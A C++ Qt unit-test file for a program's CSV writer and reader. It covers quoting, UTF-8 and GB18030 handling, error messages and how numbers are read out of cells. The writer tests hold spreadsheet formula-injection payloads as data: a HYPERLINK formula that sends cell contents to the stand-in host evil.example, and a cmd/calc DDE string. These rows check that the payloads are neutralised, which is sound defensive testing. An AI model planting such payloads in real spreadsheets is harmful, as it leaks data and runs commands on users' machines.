// CSV as the program writes and reads it: the writer against the reader,
// hand-made files as Excel and editors make them, and files refused; numbers
// read from observation cells, as the trend chart plots them, and which
// cells a spreadsheet receives as numbers.
#include "exchange/CellNumbers.h"
#include "exchange/Csv.h"
#include "exchange/ExchangeError.h"

#include <QBuffer>
#include <QTemporaryDir>
#include <QTest>

using namespace exchange;

namespace {

QByteArray written(const QStringList &row)
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    CsvWriter csv(&buffer);
    csv.writeRow(row);
    csv.flush();
    return buffer.data();
}

} // namespace

class TestCsv : public QObject {
    Q_OBJECT

private slots:
    void writer_data()
    {
        QTest::addColumn<QStringList>("fields");
        QTest::addColumn<QByteArray>("line");
        QTest::newRow("plain") << QStringList{"时间", "PR"} << QByteArray("时间,PR\r\n");
        QTest::newRow("comma") << QStringList{"a,b", "c"} << QByteArray("\"a,b\",c\r\n");
        QTest::newRow("quote") << QStringList{"说\"好\""} << QByteArray("\"说\"\"好\"\"\"\r\n");
        QTest::newRow("line breaks") << QStringList{"一\r\n二", "三\n"} << QByteArray("\"一\r\n二\",\"三\n\"\r\n");
        QTest::newRow("empty fields") << QStringList{"", "", ""} << QByteArray(",,\r\n");
        QTest::newRow("blanks kept bare") << QStringList{" x ", "\"", ",", "\n", "\r"}
                                          << QByteArray(" x ,\"\"\"\",\",\",\"\n\",\"'\r\"\r\n");
        // What a spreadsheet would run as a formula gets an apostrophe; numbers do not.
        QTest::newRow("formula") << QStringList{"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "@SUM(1+1)"}
                                 << QByteArray("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",'@SUM(1+1)\r\n");
        QTest::newRow("plus, minus, tab, CR") << QStringList{"+cmd|' /C calc'!A0", "-x", "\tx", "\rx"}
                                              << QByteArray("'+cmd|' /C calc'!A0,'-x,'\tx,\"'\rx\"\r\n");
        QTest::newRow("negative numbers bare") << QStringList{"-3", "-0.5", "-3."} << QByteArray("-3,-0.5,'-3.\r\n");
        QTest::newRow("apostrophe before a formula") << QStringList{"'=1", "'abc", "'-3", "''@x", "'", "-", "\t"}
                                                     << QByteArray("''=1,'abc,'-3,'''@x,','-,'\t\r\n");
    }

    // Written as a spreadsheet expects it, and read back exactly by the reader.
    void writer()
    {
        QFETCH(QStringList, fields);
        QFETCH(QByteArray, line);
        QCOMPARE(written(fields), QByteArray("\xEF\xBB\xBF") + line);
        QCOMPARE(Csv::parse(written(fields)).header, fields);
    }

    // Files as Excel and editors make them, read; or refused, the message
    // naming the line and the reason.
    void handMade_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<QString>("records"); // line: fields joined by |, records by ;  or "refused: " a part of the message
        QTest::newRow("no BOM, LF") << QByteArray("a,b\n1,2\n") << "2:1|2";
        QTest::newRow("BOM, CRLF, no final line end") << QByteArray("\xEF\xBB\xBF" "a,b\r\n1,2") << "2:1|2";
        QTest::newRow("CR only") << QByteArray("a,b\r1,2\r3,4\r") << "2:1|2;3:3|4";
        QTest::newRow("quoted comma and quote") << QByteArray("a,b\n\"x,\"\"y\"\"\",z\n") << "2:x,\"y\"|z";
        QTest::newRow("line breaks inside quotes") << QByteArray("a,b\r\n\"1\r\n2\n3\r4\",3\r\n5,6") << "2:1\r\n2\n3\r4|3;6:5|6";
        QTest::newRow("blank lines skipped") << QByteArray("a,b\n\n1,2\n\n") << "3:1|2";
        QTest::newRow("empty last field") << QByteArray("a,b\n1,\n") << "2:1|";
        QTest::newRow("quote inside a bare field kept") << QByteArray("a,b\n5\"6,x\n") << "2:5\"6|x";
        QTest::newRow("chinese") << QByteArray("时间,备注\n2011-9-5,优化首页\n") << "2:2011-9-5|优化首页";
        QTest::newRow("apostrophe before text kept") << QByteArray("a,b\n'abc,'-3\n") << "2:'abc|'-3";
        QTest::newRow("trailing comma at the end") << QByteArray("a,b\n1,") << "2:1|";
        // 百度 in GBK on the second line.
        QTest::newRow("GBK") << QByteArray("a,b\n\xB0\xD9\xB6\xC8,1\n") << "refused: 第 2 行有不是 UTF-8 的字节";
        QTest::newRow("overlong UTF-8") << QByteArray("a\n\xC0\xAF\n") << "refused: UTF-8";
        QTest::newRow("truncated sequence") << QByteArray("a\n\xE4\xBC") << "refused: 第 2 行";
        QTest::newRow("surrogate") << QByteArray("a\n\xED\xA0\x80\n") << "refused: UTF-8";
        QTest::newRow("unfinished quote") << QByteArray("a,b\n1,2\n\"3,4\n") << "refused: 第 3 行：引号开始的字段";
        QTest::newRow("text after quote") << QByteArray("a,b\n\"1\"时x,2\n") << "refused: 第 2 行：引号结束后还有文字“时”";
        QTest::newRow("too many fields") << QByteArray("a,b\n1,2\n1,2,3\n") << "refused: 第 3 行有 3 个字段，标题行有 2 个";
        QTest::newRow("too few fields") << QByteArray("a,b\n1\n") << "refused: 第 2 行有 1 个字段";
        QTest::newRow("empty") << QByteArray("\xEF\xBB\xBF") << "refused: 没有标题行";
    }

    void handMade()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(QString, records);
        QStringList got;
        try {
            for (const CsvRecord &r : Csv::parse(bytes).records)
                got << QString::number(r.line) + ':' + r.fields.join(QLatin1Char('|'));
        } catch (const Failure &e) {
            got = QStringList{"refused: " + e.message()};
        }
        if (records.startsWith("refused: "))
            QVERIFY2(got.value(0).startsWith("refused: ") && got.value(0).contains(records.mid(9)), qPrintable(got.join(';')));
        else
            QCOMPARE(got.join(QLatin1Char(';')), records);
    }

    // A file as Chinese Excel or a script saved it, read whole as the preview does.
    void encodings_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<int>("forced"); // -1: found out
        QTest::addColumn<QString>("read"); // encoding:header|first field, or a part of the refusal
        const QByteArray gbk("\xCA\xB1\xBC\xE4,b\r\n\xB0\xD9\xB6\xC8\x81\x30\x81\x30,2\r\n"); // 时间 / 百度 U+0080
        QTest::newRow("UTF-8") << QByteArray("\xEF\xBB\xBF时间,b\n百度,2\n") << -1 << "UTF-8:时间|百度";
        QTest::newRow("GB18030 found") << gbk << -1 << "GB18030:时间|百度\u0080";
        QTest::newRow("GB18030 read as UTF-8") << gbk << int(Encoding::Utf8) << "in.csv：第 1 行有不是 UTF-8 的字节";
        QTest::newRow("neither") << QByteArray("a\n\xB0\xD9\xFF\n") << -1 << "in.csv：第 2 行有既不是 UTF-8 也不是 GB18030";
        QTest::newRow("cut GB18030 pair") << QByteArray("a\nx\xB0") << int(Encoding::Gb18030) << "in.csv：第 2 行有不是 GB18030";
        QTest::newRow("empty") << QByteArray("\xEF\xBB\xBF") << -1 << "in.csv：文件是空的";
    }

    void encodings()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(int, forced);
        QFETCH(QString, read);
        QTemporaryDir dir;
        QFile file(dir.filePath("in.csv"));
        QVERIFY(file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size());
        file.close();
        try {
            const CsvPreview p = Csv::inspect(file.fileName(), 1, forced < 0 ? std::nullopt : std::optional(Encoding(forced)));
            QCOMPARE(encodingName(p.encoding) + ':' + p.header.first() + '|' + p.first.first().fields.first(), read);
        } catch (const Failure &e) {
            QVERIFY2(e.message().startsWith(read), qPrintable(e.message()));
        }
    }

    void numbers_data()
    {
        QTest::addColumn<QString>("cell");
        QTest::addColumn<QString>("expected"); // label=value;... as read

        QTest::newRow("indexed pages") << "收入155/反向31" << "收入=155;反向=31";
        QTest::newRow("keyword ranks") << "百度9/谷歌6" << "百度=9;谷歌=6";
        QTest::newRow("bare number") << "3" << "=3";
        QTest::newRow("decimal") << "PR 4.5" << "PR=4.5";
        QTest::newRow("negative") << "反向-3" << "反向=-3";
        QTest::newRow("bare negative") << "-12.25" << "=-12.25";
        QTest::newRow("minus between numbers separates") << "9-6" << "=9;2=6";
        QTest::newRow("template") << "收入*/反向*" << "";
        QTest::newRow("half filled template") << "收入*/反向31" << "反向=31";
        QTest::newRow("none") << "无" << "";
        QTest::newRow("empty") << "" << "";
        QTest::newRow("chinese text") << "第三名，没有收录" << "";
        QTest::newRow("full-width digits") << "百度１２/谷歌３" << "百度=12;谷歌=3";
        QTest::newRow("full-width nine and zero") << "百度９/谷歌０．５" << "百度=9;谷歌=0.5";
        QTest::newRow("colon and blanks") << "收入: 155, 反向: 31" << "收入=155;反向=31";
        QTest::newRow("label repeated") << "百度3/百度5" << "百度=3;百度2=5";
        QTest::newRow("trailing point is not a decimal") << "7." << "=7";
    }

    void numbers()
    {
        QFETCH(QString, cell);
        QFETCH(QString, expected);
        QStringList got;
        for (const exchange::CellNumber &n : exchange::cellNumbers(cell))
            got << n.label + QLatin1Char('=') + QString::number(n.value, 'g', 15);
        QCOMPARE(got.join(QLatin1Char(';')), expected);
    }

    void plainNumbers_data()
    {
        QTest::addColumn<QString>("cell");
        QTest::addColumn<bool>("plain");
        QTest::addColumn<double>("value");
        QTest::newRow("integer") << "155" << true << 155.0;
        QTest::newRow("zero") << "0" << true << 0.0;
        QTest::newRow("negative decimal") << "-0.5" << true << -0.5;
        QTest::newRow("leading zero kept as text") << "007" << false << 0.0;
        QTest::newRow("plus sign") << "+3" << false << 0.0;
        QTest::newRow("exponent") << "1e5" << false << 0.0;
        QTest::newRow("thousands") << "1,234" << false << 0.0;
        QTest::newRow("blank around") << " 3" << false << 0.0;
        QTest::newRow("fifteen digits") << "123456789012345" << true << 123456789012345.0;
        QTest::newRow("too many digits") << "1234567890123456" << false << 0.0;
        QTest::newRow("text") << "收入155" << false << 0.0;
        QTest::newRow("empty") << "" << false << 0.0;
    }

    void plainNumbers()
    {
        QFETCH(QString, cell);
        QFETCH(bool, plain);
        QFETCH(double, value);
        double got = 0;
        QCOMPARE(exchange::isPlainNumber(cell, &got), plain);
        if (plain)
            QCOMPARE(got, value);
    }

    void seriesNames()
    {
        QCOMPARE(exchange::seriesName(QStringLiteral("百度收入量"), QStringLiteral("收入")), QStringLiteral("百度收入量·收入"));
        QCOMPARE(exchange::seriesName(QStringLiteral("PR"), QString()), QStringLiteral("PR"));
    }
};

QTEST_APPLESS_MAIN(TestCsv)
#include "tst_csv.moc"
